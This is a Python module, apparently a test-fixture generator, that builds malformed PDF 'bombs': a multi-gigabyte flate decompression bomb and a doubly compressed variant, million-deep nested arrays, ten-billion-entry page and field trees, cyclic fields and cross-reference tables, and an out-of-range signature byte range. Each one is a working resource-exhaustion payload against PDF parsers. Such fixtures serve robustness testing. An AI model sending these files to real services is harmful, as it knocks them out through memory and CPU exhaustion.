"""PDFs that are small on their way and want much time or memory of whoever reads them; made here, kept nowhere."""

import zlib
from collections.abc import Callable, Iterable

MEBIBYTE = 1024 * 1024


def pdf(objects: Iterable[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a table that finds them; the first one is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)
    return bytes(out)


def stream(octets: bytes, facts: bytes) -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(octets), facts, octets)


def squeezed(mebibytes: int) -> bytes:
    """So many mebibytes of blanks, compressed: one piece that needs nothing of those before it, again and again."""
    squeezer, blanks = zlib.compressobj(9), b" " * MEBIBYTE
    first = squeezer.compress(blanks) + squeezer.flush(zlib.Z_FULL_FLUSH)
    piece = squeezer.compress(blanks) + squeezer.flush(zlib.Z_FULL_FLUSH)
    return first + piece * (mebibytes - 1) + squeezer.flush()


def by_cross_references(container: bytes) -> bytes:
    """A PDF whose table is itself a stream, which says that the form is in the stream ``container``."""
    out = bytearray(b"%PDF-1.7\n")
    places = [len(out)]
    out += b"1 0 obj\n<< /Type /Catalog /Pages 4 0 R /AcroForm 3 0 R >>\nendobj\n"
    places.append(len(out))
    out += b"2 0 obj\n" + container + b"\nendobj\n"
    start = len(out)
    rows = [(0, 0, 65535), (1, places[0], 0), (1, places[1], 0), (2, 2, 0), (2, 2, 1), (1, start, 0)]
    table = b"".join(kind.to_bytes(1) + at.to_bytes(4) + last.to_bytes(2) for kind, at, last in rows)
    facts = b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R"
    out += b"5 0 obj\n" + stream(table, facts) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def inflating() -> bytes:
    """An object stream of some megabytes that holds four gigabytes of blanks before the form."""
    facts = b"/Type /ObjStm /N 2 /First 2000000000 /Filter /FlateDecode"
    return by_cross_references(stream(squeezed(4096), facts))


def twice_inflating() -> bytes:
    """The same, compressed once more: some kilobytes."""
    facts = b"/Type /ObjStm /N 2 /First 2000000000 /Filter [/FlateDecode /FlateDecode]"
    return by_cross_references(stream(zlib.compress(squeezed(4096), 9), facts))


def deep() -> bytes:
    """An object stream in which lists stand in lists, a million deep."""
    inner = b"[" * 1_000_000 + b"]" * 1_000_000
    head = b"3 0 4 %d " % (len(inner) + 1)
    octets = zlib.compress(head + inner + b" << /Type /Pages /Count 0 /Kids [] >>", 9)
    return by_cross_references(stream(octets, b"/Type /ObjStm /N 2 /First %d /Filter /FlateDecode" % len(head)))


def many_pages() -> bytes:
    """A tree of pages that has each branch ten times, ten levels deep: ten thousand million pages."""
    branch = b"<< /Type /Pages /Count 10000000000 /Kids [%s] >>"
    levels = [branch % (b"%d 0 R " % (3 + level) * 10) for level in range(10)]
    form = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /SigFlags 3 >> >>"
    return pdf([form, *levels, b"<< /Type /Page /MediaBox [0 0 9 9] >>"])


def many_fields() -> bytes:
    """The same with the fields of the form."""
    levels = [b"<< /T (f) /Kids [%s] >>" % (b"%d 0 R " % (4 + level) * 10) for level in range(10)]
    form = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] /SigFlags 3 >> >>"
    return pdf([form, b"<< /Type /Pages /Count 0 /Kids [] >>", *levels, b"<< /T (s) /FT /Sig >>"])


def round_fields() -> bytes:
    """Fields of a form of which each is the child of the other."""
    form = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] /SigFlags 3 >> >>"
    fields = (b"<< /T (a) /Kids [4 0 R] /Parent 4 0 R >>", b"<< /T (b) /Kids [3 0 R] /Parent 3 0 R >>")
    return pdf([form, b"<< /Type /Pages /Count 0 /Kids [] >>", *fields])


def round_tables() -> bytes:
    """A table that says that the one before it is itself."""
    made = pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 0 /Kids [] >>"], b"/Prev 0000000000")
    at = made.rindex(b"startxref\n") + len(b"startxref\n")
    return made.replace(b"/Prev 0000000000", b"/Prev %010d" % int(made[at:].split()[0]))


def huge_signature() -> bytes:
    """A signature whose range of octets lies far beyond the file."""
    form = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] /SigFlags 3 >> >>"
    value = b"<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 9 99999999999 %s] /Contents <3080> >>"
    return pdf([form, b"<< /Type /Pages /Count 0 /Kids [] >>", b"<< /FT /Sig /T (s) /V 4 0 R >>", value % (b"9" * 30)])


BOMBS: dict[str, Callable[[], bytes]] = {
    "inflating": inflating,
    "twice-inflating": twice_inflating,
    "deep": deep,
    "many-pages": many_pages,
    "many-fields": many_fields,
    "round-fields": round_fields,
    "round-tables": round_tables,
    "huge-signature": huge_signature,
}
